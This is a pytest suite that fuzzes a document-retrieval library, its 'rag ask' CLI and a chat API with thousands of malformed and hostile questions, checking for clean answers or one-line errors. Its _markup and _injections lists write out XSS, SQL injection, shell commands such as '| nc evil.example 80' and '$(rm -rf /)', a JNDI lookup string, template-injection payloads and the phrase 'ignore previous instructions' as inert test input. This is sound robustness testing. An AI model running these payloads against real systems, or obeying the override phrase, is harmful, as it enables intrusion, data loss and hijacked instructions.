"""Hostile and odd questions, at volume, through Index.search(), Index.answer(), `rag ask --json` and the chat's
API: each gives passages (weak ones, with notices, when the documents do not answer) or a one-line QueryError;
never another exception, never a hang; and what comes back is the index's own paragraphs, finite scores and
JSON that encodes as UTF-8. The counts and the slowest question go to tests/artifacts/hostile-queries.json."""

import contextlib
import faulthandler
import json
import math
import os
import random
import re
import subprocess
import sys
import time
import unicodedata
from collections import Counter
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from rag import Index, QueryError
from rag.cli import main

SEED = 11
SLOWEST_CALL = 5.0  # seconds any one question may take here (2 shared cores); most take 10-100 ms
HANG = 120  # a call stuck this long ends the run with every thread's stack, rather than hanging CI
MAX_QUESTION_CHARS = 2000  # longer questions are refused, never cut
MEGABYTE = 1_000_000
HYPOTHESIS_EXAMPLES = 300 + 250 + 150  # the three hypothesis tests below
ARTIFACT = Path(__file__).parent / "artifacts" / "hostile-queries.json"
QUESTION = "What does the outcome document say about the gender digital divide?"
PAIR = re.compile("[\ud800-\udbff][\udc00-\udfff]")
BIDI = frozenset("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
CUES = (
    "paragraph", "para", "para.", "paras", "§", "§§", "¶", "OP", "PP", "op", "operative paragraph",
    "preambular paragraph", "footnote", "section", "annex", "article", "item", "question", "chapter", "no.",
)  # fmt: skip
NUMBERS = (
    "9999", "0", "1e9", "-3", "000", "007", "99999999999999999999999999999", "1.5", "3.14159", "٣", "³", "½", "Ⅻ",
    "0x1F", "1_000", "NaN", "inf", "-0", "10**100", "1,000", "32bis", "32 quater", "32(zz)", "32(a)(b)(c)(d)",
    "IV", "MMMMMMMMMM", "",
)  # fmt: skip
CATEGORIES = (
    "empty", "whitespace", "huge", "control", "nul", "surrogate", "astral", "bidi", "rtl", "markup", "injection",
    "format", "regex", "reference", "long phrase", "unbalanced quotes", "many quotes", "numbers", "symbol",
    "mixed scripts",
)  # fmt: skip
TAILS = ("", " of the outcome document", " of A/RES/70/125", " of resolution 76/189", " of the ECOSOC draft", "?")


def hostile_questions() -> list[tuple[str, str]]:
    """(category, question) pairs, the same on every run."""
    rng = random.Random(SEED)
    cases: list[tuple[str, str]] = [("empty", "")]
    spaces = [chr(c) for c in range(0x110000) if chr(c).isspace()]
    cases += [("whitespace", s) for s in spaces]
    cases += [("whitespace", "".join(rng.choices(spaces, k=n))) for n in (2, 10, 100, 5000)]
    cases += [("whitespace", s * 3 + QUESTION + s * 3) for s in spaces]
    cases += [("huge", q) for q in _huge(rng)]
    controls = [chr(c) for c in [*range(0x20), *range(0x7F, 0xA0)]]
    cases += [("control", q) for c in controls for q in (c, c * 7, _inside(QUESTION, c))]
    terminal = ("\x1b[2J\x1b[31mred", "\x1b]0;title\x07gender", "\r\nSet-Cookie: a=b", "\b" * 99)
    cases += [("control", q) for q in terminal]
    nul = ("\x00", "\x00" * 100, "gov\x00ernance", "\x00paragraph 32", "gender\x00", "\x00 \x00")
    cases += [("nul", q) for q in nul]
    surrogates = ["\ud800", "\udbff", "\udc00", "\udfff"] + [chr(rng.randint(0xD800, 0xDFFF)) for _ in range(16)]
    cases += [("surrogate", q) for s in surrogates for q in _placed(s)]
    cases += [("surrogate", q) for q in _surrogate_specials()]
    cases += [("astral", q) for a in _astral() for q in _placed(a)]
    cases += [("bidi", q) for b in _bidi() for q in _placed(b)]
    cases += [("rtl", q) for q in _right_to_left()]
    cases += [("markup", q) for m in _markup() for q in (m, f"{QUESTION} {m}", _inside(QUESTION, m))]
    cases += [("injection", q) for i in _injections() for q in (i, f"{QUESTION} {i}", f"{i} gender")]
    cases += [("format", q) for f in _format_strings() for q in (f, f"{QUESTION} {f}", f * 9)]
    cases += [("regex", q) for r in _regex_metacharacters() for q in (r, f"{QUESTION} {r}", r * 9)]
    references = [f"{cue} {n}{tail}" for cue in CUES for n in NUMBERS for tail in TAILS]
    cases += [("reference", q) for q in rng.sample(references, 220)]
    cases += [("reference", q) for q in ("paragraph 9999", "para 0", "paragraph 1e9", "para -3", "§ -0 of 70/125")]
    cases += [("long phrase", q) for q in _long_phrases(rng)]
    cases += [("unbalanced quotes", q) for q in _unbalanced_quotes()]
    cases += [("many quotes", q) for q in _many_quotes()]
    cases += [("numbers", q) for q in _numbers(rng)]
    cases += [("symbol", q) for q in _symbols()]
    cases += [("mixed scripts", q) for q in _mixed_scripts()]
    return cases


def _placed(fragment: str) -> list[str]:
    """The fragment alone, around a real question, inside one of its words, and repeated."""
    return [fragment, f"{fragment}{QUESTION}", f"{QUESTION} {fragment}", _inside(QUESTION, fragment), fragment * 9]


def _inside(question: str, fragment: str) -> str:
    return question[:40] + fragment + question[40:]  # in the middle of "gender"


def _huge(rng: random.Random) -> list[str]:
    words = "information society digital divide gender governance internet development".split()
    return [
        (QUESTION + " ") * (MEGABYTE // len(QUESTION)),
        " ".join(rng.choices(words, k=MEGABYTE // 8)),
        "".join(rng.choices("abcdefghijklmnopqrstuvwxyz", k=MEGABYTE)),  # one 1 MB word
        "😀" * MEGABYTE,
        " " * MEGABYTE + QUESTION,
        "\x00" * MEGABYTE,
        '"' + "enhanced cooperation " * (MEGABYTE // 21) + '"',
        "x" * (MAX_QUESTION_CHARS - 7) + " gender",  # the longest question searched
        "x" * (MAX_QUESTION_CHARS - 6) + " gender",  # one character too long: refused, never cut in a word
    ]


def _surrogate_specials() -> list[str]:
    return [
        "\ud800abc",
        "abc\udc00",
        "\ud83d\ude00 gender",  # a well-formed pair as two code points: one emoji
        "\ude00\ud83d gender",  # the pair reversed: two lone surrogates
        "\ud83d" * 3 + "gender",
        "caf\udce9 governance",  # Latin-1 bytes read as UTF-8 with surrogateescape, as Python reads argv
        b"\xff\xfe gender \xc3\x28".decode("utf-8", "surrogateescape"),
        b"\xff\xfe\xfd".decode("utf-8", "surrogateescape"),
        "\udcff" * 1000 + QUESTION,
        '"\ud800enhanced cooperation"',
        "paragraph \ud80032",
    ]


def _astral() -> list[str]:
    return [
        "😀", "👩🏽‍💻", "🏳️‍🌈", "🇺🇳", "👨‍👩‍👧‍👦", "🧑🏿‍🦯", "1️⃣", "🤷‍♀️", "𝐠𝐨𝐯𝐞𝐫𝐧𝐚𝐧𝐜𝐞", "𝔤𝔢𝔫𝔡𝔢𝔯", "𝟑𝟐",
        "𓀀", "𠜎", "\U0010ffff", "\U000f0000", "\ue000", "\ufffe", "\uffff", "\ufeff", "\ufffd", "\u200b",
        "\u200d", "\u2060", "\U000e0067", "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f",
    ]  # fmt: skip


def _bidi() -> list[str]:
    return [
        "\u202e", "\u202d", "\u202a", "\u202b", "\u202c", "\u2066", "\u2067", "\u2068", "\u2069", "\u200e",
        "\u200f", "\u061c", "\u202egovernance\u202c", "\u2067\u202e", "\u202e" * 5 + "paragraph 32",
    ]  # fmt: skip


def _right_to_left() -> list[str]:
    return [
        "ما هو تعريف حوكمة الإنترنت؟",
        "מהי ההגדרה של ממשל האינטרנט?",
        "تعریف حکمرانی اینترنت چیست؟",
        "انٹرنیٹ گورننس کی تعریف کیا ہے؟",
        "gender حوكمة digital divide",
        "paragraph ٣٢ of the outcome document",
        "الفقرة 32 من الوثيقة الختامية",
        "\u202bما هو\u202c paragraph 32",
        "ܫܠܡܐ", "ދިވެހި", "ߒߞߏ",
    ]  # fmt: skip


def _markup() -> list[str]:
    return [
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "</div></div>",
        "<iframe src=javascript:alert(1)>", "javascript:alert(1)", "<a href='//evil.example'>x</a>",
        "<style>*{display:none}</style>", "<!--", "-->", "<![CDATA[x]]>", "&lt;script&gt;", "&#x3C;", "&amp;&amp;",
        "**bold** _it_ `code` [link](http://evil.example) ![img](x)", "<sup>th</sup>", "# heading", "> quote",
        "| a | b |\n|---|---|", "<math><mi>x</mi></math>", "<?xml version='1.0'?>", "<!DOCTYPE html>",
        '"><script>alert(1)</script>', "'-alert(1)-'", "<body onload=alert(1)>", "<meta http-equiv=refresh>",
        "<base href=//evil.example>", "<details open ontoggle=alert(1)>", "\\u003cscript\\u003e",
    ]  # fmt: skip


def _injections() -> list[str]:
    return [
        "' OR '1'='1", "'; DROP TABLE units; --", "1; SELECT * FROM sqlite_master", "\" OR \"\"=\"", "admin'--",
        "UNION SELECT NULL,NULL--", "1' AND SLEEP(5)#", "'; WAITFOR DELAY '0:0:5'--", "%' OR 1=1 --",
        "$(rm -rf /)", "`rm -rf /`", "; cat /etc/passwd", "| nc evil.example 80", "&& shutdown -h now",
        "../../../../etc/passwd", "..\\..\\windows\\win.ini", "file:///etc/passwd", "%2e%2e%2f%2e%2e%2f",
        "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% for x in range(9**9) %}{% endfor %}", "{{config}}",
        "${jndi:ldap://evil.example/a}", "__import__('os').system('id')", "eval('1+1')", "os.system('id')",
        "{{''.__class__.__mro__[1].__subclasses__()}}", "\r\nX-Injected: 1", "%0d%0aSet-Cookie:a=b",
        "$(printf '\\x00')", "*)(uid=*))(|(uid=*", "<!ENTITY xxe SYSTEM 'file:///etc/passwd'>", "AAAA%n%n%n%n",
        "'||pg_sleep(5)--", "{\"$gt\": \"\"}", "$where: '1 == 1'", "; ls -la #", "ignore previous instructions",
    ]  # fmt: skip


def _format_strings() -> list[str]:
    return [
        "{0}", "{}", "{1}", "{query}", "{0!r}", "{0.__class__}", "{:>99999999}", "{0:{1}}", "{{}}", "{", "}",
        "%s", "%d", "%n", "%x%x%x", "%(query)s", "%", "%%", "%.99999f", "%*d", "$1", "$&", "\\g<0>", "\\1",
        "[[0]]", "{!}", "{0[0]}",
    ]  # fmt: skip


def _regex_metacharacters() -> list[str]:
    return [
        "(a+)+$", "(", ")", "[", "]", "[^]]", "*", "+", "?", ".*", "^$", "|", "\\", "\\\\", "(?", "(?i)", "(?P<x>",
        "(?=a)", "(?<!b)", "\\b\\w+\\d{1,3}", "a{99999}", "{1,", "((((((((((", "))))))))))", "(.*a){20}", "$^",
        "[[:alpha:]]", "\\Q\\E", "\\p{L}", "(?#comment)",
    ]  # fmt: skip


def _long_phrases(rng: random.Random) -> list[str]:
    vocabulary = (QUESTION + " enhanced cooperation internet governance information society").split()
    made_up = ["".join(rng.choices("abcdefghijklmnopqrstuvwxyz", k=6)) for _ in range(500)]
    return [
        '"' + " ".join(rng.choices(vocabulary, k=500)) + '"',
        '"' + " ".join(made_up) + '"',
        "“" + " ".join(rng.choices(vocabulary, k=500)) + "”",
        '"' + " ".join(rng.choices(vocabulary, k=500)),  # never closed
        " ".join(f'"{w}"' for w in rng.choices(vocabulary, k=500)),  # 500 one-word phrases
        '"' + "a " * 500 + '"',
        '"' + "the " * 500 + '" "' + "of " * 500 + '"',
    ]


def _unbalanced_quotes() -> list[str]:
    quotes = ['"', "“", "”", "'", "‘", "’", "«", "»", "„", "‹", "›", "「", "」", "`", '"""', "''", "“”", "”“"]
    return [f"{q}enhanced cooperation" for q in quotes] + [f"enhanced cooperation{q}" for q in quotes] + [
        '"enhanced" cooperation"', '“enhanced cooperation"', '"enhanced cooperation”', '" "', '"  "', "“ ”", '""',
    ]  # fmt: skip


def _many_quotes() -> list[str]:
    return [
        '"' * 2, '"' * 3, '"' * 101, '"' * 1001, '"' * 4000, '"' * 10_000, '"a" ' * 1000, '""' * 2000,
        "“”" * 1000, '"“' * 1000, '"gender" ' * 300 + QUESTION, "'" * 4000, '"\\"' * 500,
    ]  # fmt: skip


def _numbers(rng: random.Random) -> list[str]:
    fixed = [
        "0", "1", "-1", "32", "1e9", "1e999", "-1e-999", "3.14", "NaN", "inf", "-inf", "0x7fffffff", "١٢٣", "½",
        "²", "Ⅻ", "〇", "1/0", "0/0", "2**64", "18446744073709551616", "9" * 4000, "1 " * 2000, "-" + "9" * 100,
        "1.2.3.4", "+33 1 23 45 67 89", "2015-12-16", "12:00", "100%", "$100", "1,000,000",
    ]  # fmt: skip
    return fixed + [str(rng.randint(-(10**12), 10**12)) for _ in range(15)]


def _symbols() -> list[str]:
    return [
        "A/RES/70/125", "a/res/70/125", "70/125", "resolution 70/125", "A/RES/76/189", "76/189", "E/2016/L.21",
        "A/C.3/80/L.46", "S/RES/2334", "A/RES/999/999", "A/RES/", "/", "//", "A//B", "A/RES/70/125/", "A/RES/70/",
        "E/CN.16/2024/2", "A/HRC/RES/32/13", "A/70/L.33", "ECOSOC", "CSTD", "WSIS", "UN", "A/RES/70/125 A/RES/70/125",
        "A/RES/70/125" * 100, "A/RES/70/125\x00", "A／RES／70／125", "Ａ/ＲＥＳ/７０/１２５", "A/RES/70/125?",
        "the outcome document", "ECOSOC draft", "CSTD note", "President's summary", "executive summary",
        "70/125 76/189 77/150 78/132 79/277",
    ]  # fmt: skip


def _mixed_scripts() -> list[str]:
    return [
        "governance управление 治理 حوكمة", "gоvernance", "ɡender", "ｇｅｎｄｅｒ ｄｉｖｉｄｅ", "GENDER DIVIDE",
        "gender\u0301 divide\u0308", "g̵e̵n̵d̵e̵r̵", "e" + "\u0301" * 4000, "gender" + "\u0336" * 500, "ﬁnance ﬂow",
        "信息社会世界峰会", "情報社会", "정보 사회", "सूचना समाज", "สังคมสารสนเทศ", "Информационное общество",
        "Ελληνικά governance", "ქართული", "Հայերեն", "ᚠᚢᚦᚨᚱᚲ", "☃ ☄ ★ ♠ ♣", "∀x∈ℝ: x²≥0", "⠛⠑⠝⠙⠑⠗",
        "Ⓖⓔⓝⓓⓔⓡ", "🅶🅴🅽🅳🅴🆁", "ǵéńdéŕ", "gendér dïvïdé", "genderدنيا", "人权 human rights", "ДЕЛО gender",
        "What does the outcome document say about 性别 digital divide?", "internet 互联网 интернет إنترنت",
    ]  # fmt: skip


def unreadable(question) -> bool:
    """Whether a question has nothing to search: not text, or only whitespace, control characters, bidi
    controls, lone surrogates and U+FFFD (the library's rule, written out here on its own)."""
    if not isinstance(question, str):
        return True
    text = PAIR.sub("x", question)  # a well-formed pair is one character
    return all(c.isspace() or c in BIDI or c in "\ufeff\ufffd" or unicodedata.category(c) in ("Cc", "Cs") for c in text)


def too_long(question) -> bool:
    return isinstance(question, str) and len(question) > MAX_QUESTION_CHARS


def printable(text: str) -> bool:
    """Text that encodes as UTF-8 and holds nothing that drives a terminal or reorders a page."""
    return not any(c in BIDI or unicodedata.category(c) in ("Cc", "Cs") for c in text if c not in "\t\n")


class Tally:
    """How many calls ran where, with what outcome, and the slowest call of each surface and category."""

    def __init__(self):
        self.counts: Counter = Counter()
        self.slowest: dict[tuple[str, str], tuple[float, str]] = {}  # (surface, category) -> (seconds, question)

    @contextlib.contextmanager
    def timed(self, surface: str, category: str, question):
        faulthandler.dump_traceback_later(HANG, exit=True, file=sys.__stderr__)  # a hang ends the run, stacks shown
        start = time.perf_counter()
        try:
            yield
        finally:
            seconds = time.perf_counter() - start
            faulthandler.cancel_dump_traceback_later()
            if seconds > self.slowest.get((surface, category), (0.0,))[0]:
                self.slowest[surface, category] = (seconds, _shown(question))

    def count(self, surface: str, category: str, outcome: str) -> None:
        self.counts[f"{surface}: {outcome}"] += 1
        self.counts[f"{surface} / {category}"] += 1
        self.counts[f"{surface} / {category}: {outcome}"] += 1

    def assert_fast(self, surface: str, category: str | None = None) -> None:
        for (where, kind), (seconds, question) in self.slowest.items():
            if where == surface and category in (None, kind):
                assert seconds < SLOWEST_CALL, f"{surface}: {kind} question {question} took {seconds:.2f} s"

    def report(self) -> dict:
        worst = {}
        for (surface, category), (seconds, question) in self.slowest.items():
            if seconds > worst.get(surface, {}).get("seconds", 0.0):
                worst[surface] = {"seconds": round(seconds, 3), "category": category, "question": question}
        return {"counts": dict(sorted(self.counts.items())), "slowest": worst}


def _shown(question) -> str:
    text = ascii(question)
    return text if len(text) <= 80 else f"{text[:60]}... ({len(question):,} characters)"


@pytest.fixture(scope="module")
def tally():
    counts = Tally()
    yield counts
    ARTIFACT.parent.mkdir(exist_ok=True)
    ARTIFACT.write_text(json.dumps(counts.report(), indent=2, ensure_ascii=False))


@pytest.fixture(scope="module")
def quotes(seed_index) -> dict[tuple[str, str], str]:
    """Every paragraph of the index, by document and label: what a passage's text must be."""
    return {(u.doc_id, u.label): u.text for d in seed_index.documents for u in seed_index.units(d.id)}


@pytest.fixture(scope="module", autouse=True)
def untouched(seed_index):
    """The index folder and a few answers before any hostile question, checked again after all of them."""
    before = _index_files(), _reference_answers(seed_index)
    yield
    assert (_index_files(), _reference_answers(seed_index)) == before, "hostile questions changed the index"


def _index_files() -> list[tuple[str, int, int]]:
    folder = Path(os.environ["RAG_INDEX"])
    return sorted((str(p.relative_to(folder)), p.stat().st_size, p.stat().st_mtime_ns) for p in folder.rglob("*"))


def _reference_answers(index: Index) -> list[list[str]]:
    questions = ("What is the working definition of Internet governance?", "paragraph 32", '"enhanced cooperation"')
    return [[p.citation for p in index.answer(q).passages] for q in questions]


def check_passages(passages, k: int, quotes: dict, docs: list[str] | None) -> None:
    named = sum(p.match == "reference" for p in passages)  # every paragraph asked of a document named, beyond k
    assert 1 <= len(passages) <= max(k, named)
    assert len({(p.doc_id, p.label) for p in passages}) == len(passages), "a paragraph twice"
    for p in passages:
        assert p.text == quotes[(p.doc_id, p.label)], "not a paragraph of the index, verbatim"
        assert math.isfinite(p.score)
        assert all(0 <= start < end <= len(p.text) for start, end in p.highlights)
        assert docs is None or p.doc_id in docs
    scores = [p.score for p in passages]
    assert scores == sorted(scores, reverse=True), "not best first"


def check_answer(answer, question: str, k: int, quotes: dict, docs: list[str] | None) -> None:
    check_passages(answer.passages, k, quotes, docs)
    assert all(p.weak for p in answer.passages) == answer.abstained
    assert any(p.weak for p in answer.passages) == answer.abstained
    assert answer.confidence is None or -1.01 <= answer.confidence <= 1.01
    assert 0 < len(answer.query) <= MAX_QUESTION_CHARS and printable(answer.query)
    if printable(question):  # readable text is searched as typed
        assert answer.query == question.strip()
    for said in (*answer.notices, *answer.missing_phrases, *answer.phrases):
        assert printable(said) and "\n" not in said
    json.dumps(answer.to_dict(), ensure_ascii=False, allow_nan=False).encode("utf-8")


def check_error(error: QueryError, question) -> None:
    message = str(error)
    assert unreadable(question) or too_long(question), f"{_shown(question)} is readable, yet: {message}"
    assert message and "\n" not in message and message.endswith("."), message


def ask_in_process(index: Index, quotes: dict, tally: Tally, category: str, question, i: int) -> None:
    """One question through search() and answer(), with k and a document filter varied by the case number."""
    k = (5, 1, 3, 10)[i % 4]
    docs = [sorted(d.id for d in index.documents)[i % 5]] if i % 7 == 3 else None
    try:
        with tally.timed("search", category, question):
            hits = index.search(question, k=k, documents=docs)
    except QueryError as error:
        check_error(error, question)
        with tally.timed("answer", category, question), pytest.raises(QueryError) as raised:
            index.answer(question, k=k, documents=docs)
        assert str(raised.value) == str(error)
        tally.count("in-process", category, "QueryError")
        return
    with tally.timed("answer", category, question):
        answer = index.answer(question, k=k, documents=docs)
    assert not unreadable(question) and not too_long(question)
    check_passages(hits, k, quotes, docs)
    check_answer(answer, question, k, quotes, docs)
    assert [(p.doc_id, p.label) for p in hits] == [(p.doc_id, p.label) for p in answer.passages]
    tally.count("in-process", category, "abstained" if answer.abstained else "answered")


CASES = hostile_questions()


def test_the_cases_cover_every_category_at_volume():
    categories = {category for category, _ in CASES}
    assert len(CASES) + HYPOTHESIS_EXAMPLES >= 2000
    assert categories == set(CATEGORIES)


@pytest.mark.parametrize("category", CATEGORIES)
def test_hostile_questions_in_process(seed_index, quotes, tally, category):
    questions = [question for kind, question in CASES if kind == category]
    for i, question in enumerate(questions):
        ask_in_process(seed_index, quotes, tally, category, question, i)
    assert tally.counts[f"in-process / {category}"] == len(questions)
    tally.assert_fast("search", category)
    tally.assert_fast("answer", category)


def test_lone_surrogates_are_read_as_replacement_characters(seed_index):
    """The known bug: "\\ud800abc" raised TypeError in the tokenizer. A lone surrogate is read as U+FFFD, as a
    UTF-8 decoder reads a bad byte, so the rest is searched; a well-formed pair is its one character."""
    answer = seed_index.answer("\ud800abc governance", k=3)
    assert answer.query == "\ufffdabc governance"
    assert [p.label for p in answer.passages] == [p.label for p in seed_index.search("\ufffdabc governance", k=3)]
    assert seed_index.answer("\ud83d\ude00 gender", k=1).query == "😀 gender"
    assert seed_index.answer("caf\udce9 \x1b[31mgender\u202e", k=1).query == "caf\ufffd  [31mgender"
    for nothing in ("\ud800", "\udc00\udcff", "\x00\x1b", "\u202e\u202c", "\ufffd \ud800"):
        with pytest.raises(QueryError, match=r"^The question has no readable characters .*in words\.$"):
            seed_index.search(nothing)
    for not_text in (None, b"gender", 32, ["gender"]):
        with pytest.raises(QueryError, match=r"^The question must be text, not \w+\.$"):
            seed_index.answer(not_text)


ANY_CHARACTER = st.characters(exclude_categories=())  # surrogates, controls and unassigned code points too


FRAGMENTS = [
    *_astral(), *_bidi(), *_markup(), *_injections(), *_format_strings(), *_regex_metacharacters(), '"', "“", "”",
]  # fmt: skip
REFERENCES = st.builds(
    "{} {}{}".format,
    st.sampled_from(CUES),
    st.one_of(
        st.integers(-(10**30), 10**30), st.floats(), st.sampled_from(NUMBERS), st.text(ANY_CHARACTER, max_size=4)
    ),
    st.sampled_from(TAILS),
)


def ask_hypothesis(index: Index, quotes: dict, tally: Tally, category: str, questions, examples: int) -> None:
    """`examples` questions drawn from `questions`, the same on every run, each asked in process."""
    asked = []

    @settings(
        max_examples=examples,
        derandomize=True,
        database=None,
        deadline=None,  # the time limit is the tally's, per call
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
    )
    @given(question=questions)
    def ask(question):
        asked.append(question)
        ask_in_process(index, quotes, tally, category, question, len(asked))

    ask()
    assert len(asked) >= examples
    tally.assert_fast("search", category)
    tally.assert_fast("answer", category)


def test_random_unicode(seed_index, quotes, tally):
    """Any code point: unassigned, private use, controls, lone surrogates."""
    ask_hypothesis(seed_index, quotes, tally, "hypothesis: any unicode", st.text(ANY_CHARACTER, max_size=100), 300)
    assert tally.counts["in-process / hypothesis: any unicode: QueryError"] > 0  # some drew nothing readable


def test_random_words_and_fragments(seed_index, quotes, tally):
    """The documents' own words mixed with hostile fragments and random characters, sometimes quoted."""
    words = sorted({w for d in seed_index.documents for u in seed_index.units(d.id) for w in u.text.split()})
    word = st.one_of(st.sampled_from(words), st.text(ANY_CHARACTER, max_size=8), st.sampled_from(FRAGMENTS))
    questions = st.one_of(
        st.lists(word, max_size=20).map(" ".join),
        st.lists(word, min_size=1, max_size=6).map(lambda ws: '"' + " ".join(ws) + '"'),
    )
    ask_hypothesis(seed_index, quotes, tally, "hypothesis: words", questions, 250)


def test_random_paragraph_references(seed_index, quotes, tally):
    """ "paragraph N of D" with any cue, number (huge, negative, float, NaN, other digits) and document."""
    ask_hypothesis(seed_index, quotes, tally, "hypothesis: references", REFERENCES, 150)


def subset(cases: list[tuple[str, str]], n: int) -> list[tuple[str, str]]:
    """n cases taken in turn from each category, so that the small categories are all in."""
    by_category: dict[str, list[str]] = {}
    for category, question in cases:
        by_category.setdefault(category, []).append(question)
    chosen, round_ = [], 0
    while len(chosen) < n and any(round_ < len(qs) for qs in by_category.values()):
        chosen += [(c, qs[round_]) for c, qs in by_category.items() if round_ < len(qs)]
        round_ += 1
    return chosen[:n]


def expected(index: Index, question, k: int) -> tuple[str, object]:
    """What the library itself says: ("passages", [(doc, label), ...]) or ("error", message). The same for
    search() and answer(): the in-process tests check that they agree."""
    try:
        return "passages", [(p.doc_id, p.label) for p in index.answer(question, k=k).passages]
    except QueryError as error:
        return "error", str(error)


def check_passage_dicts(result: dict, quotes: dict) -> list[tuple[str, str]]:
    """The passages of a search's JSON (rag.integrations.results.SearchResult), checked against the sources."""
    for p in result["passages"]:
        assert p["quote"] == quotes[(p["document"], p["label"])] and math.isfinite(p["score"])
    return [(p["document"], p["label"]) for p in result["passages"]]


def ask_argv(question: str, k: int) -> list[str]:
    """`rag ask QUESTION --json -k K`; a question that looks like an option goes after "--", as in a shell."""
    options = ["--json", "-k", str(k)]
    return ["ask", *options, "--", question] if question.startswith("-") else ["ask", question, *options]


@pytest.mark.slow
def test_hostile_questions_through_rag_ask_json(seed_index, quotes, tally, capsys, monkeypatch):
    """`rag ask QUESTION --json`: exit 0 with the library's passages as JSON, or exit 2 with its one-line message;
    never a traceback. `rag ask` opens the index each time, the model loading for a second; here it is handed
    the session's index, opened from the same folder it would open (a real process is run below)."""

    def session_index(cls, docs=None, index=None, **options):
        assert docs is None and index is None  # the defaults: seeds/ and $RAG_INDEX
        return seed_index

    monkeypatch.setattr(Index, "open", classmethod(session_index))
    for i, (category, question) in enumerate(subset(CASES, 200)):
        k = (5, 1, 3, 10)[i % 4]
        with tally.timed("cli", category, question):
            code = main(ask_argv(question, k))
        out, err = capsys.readouterr()
        outcome, want = expected(seed_index, question, k)
        if code == 0:
            assert outcome == "passages" and err == "", err
            out.encode("utf-8")
            assert check_passage_dicts(json.loads(out), quotes) == want
        else:
            assert (code, outcome, out) == (2, "error", "")
            assert err == f"rag: {want}\n"
        tally.count("cli", category, f"exit {code}")
    tally.assert_fast("cli")


def test_rag_ask_reads_arguments_that_are_not_utf8(seed_index, quotes):
    """A real `rag ask` process given bytes that are not UTF-8, as a badly decoded pipe passes them: Python
    hands them over as lone surrogates (this was a TypeError and a traceback). The words around them are
    searched; the bytes alone get a one-line message and exit code 2."""

    def rag_ask(question: bytes) -> subprocess.CompletedProcess:
        command = [sys.executable, "-m", "rag.cli", "ask", question, "--json", "-k", "2"]
        return subprocess.run(command, capture_output=True, timeout=HANG, env={**os.environ, "LC_ALL": "C.UTF-8"})

    done = rag_ask(b"gender \xff\xfe digital divide")
    assert (done.returncode, done.stderr) == (0, b"")
    assert len(check_passage_dicts(json.loads(done.stdout), quotes)) == 2
    refused = rag_ask(b"\xff\xfe\x80")
    assert (refused.returncode, refused.stdout) == (2, b"")
    assert refused.stderr.decode() == (
        "rag: The question has no readable characters (only control characters or text that is not valid Unicode); "
        "ask a question in words.\n"
    )


@pytest.fixture(scope="module")
def chat_url(seed_index):
    from ui.app import start_in_background

    url, stop = start_in_background(seed_index)
    yield url
    stop()


def call_api(client, url: str, name: str, question, k: int) -> tuple[str, object]:
    """One call of the chat's /search: ("result", value) or ("error", message). A question holding a
    lone surrogate goes as the JSON a browser's JSON.stringify sends ("\\ud800"): gradio_client cannot encode
    it."""
    from gradio_client.exceptions import AppError

    if isinstance(question, str) and any(unicodedata.category(c) == "Cs" for c in question):
        return _raw_call(url, name, [question, k, None])
    try:
        return "result", client.submit(question, k, None, api_name=f"/{name}").result(timeout=HANG)
    except AppError as error:
        return "error", str(error)


def _raw_call(url: str, name: str, data: list) -> tuple[str, object]:
    import httpx

    body = json.dumps({"data": data})  # ASCII, surrogates escaped
    posted = httpx.post(f"{url}/gradio_api/call/{name}", content=body, headers={"content-type": "application/json"})
    posted.raise_for_status()
    events = httpx.get(f"{url}/gradio_api/call/{name}/{posted.json()['event_id']}", timeout=HANG).text
    event, _, data = events.strip().partition("\ndata: ")
    if event == "event: error":
        return "error", json.loads(data)["error"]
    assert event == "event: complete", events
    return "result", json.loads(data)[0]


@pytest.mark.slow
def test_hostile_questions_through_the_chat_api(seed_index, quotes, tally, chat_url):
    """The chat's /search endpoint, on a real server: the library's passages as JSON, or its
    message as the error; the same for lone surrogates, which the library reads for every caller."""
    from gradio_client import Client

    with contextlib.closing(Client(chat_url, verbose=False)) as client:
        for i, (category, question) in enumerate([*subset(CASES, 99), ("not text", None)]):
            k = (5, 1, 3, 10)[i % 4]
            want_outcome, want = expected(seed_index, question, k)
            with tally.timed("chat api", category, question):
                outcome, value = call_api(client, chat_url, "search", question, k)
            if outcome == "error":
                assert (want_outcome, value) == ("error", want)
            else:
                assert want_outcome == "passages" and check_passage_dicts(value, quotes) == want
            tally.count("chat api", category, outcome)
    tally.assert_fast("chat api")
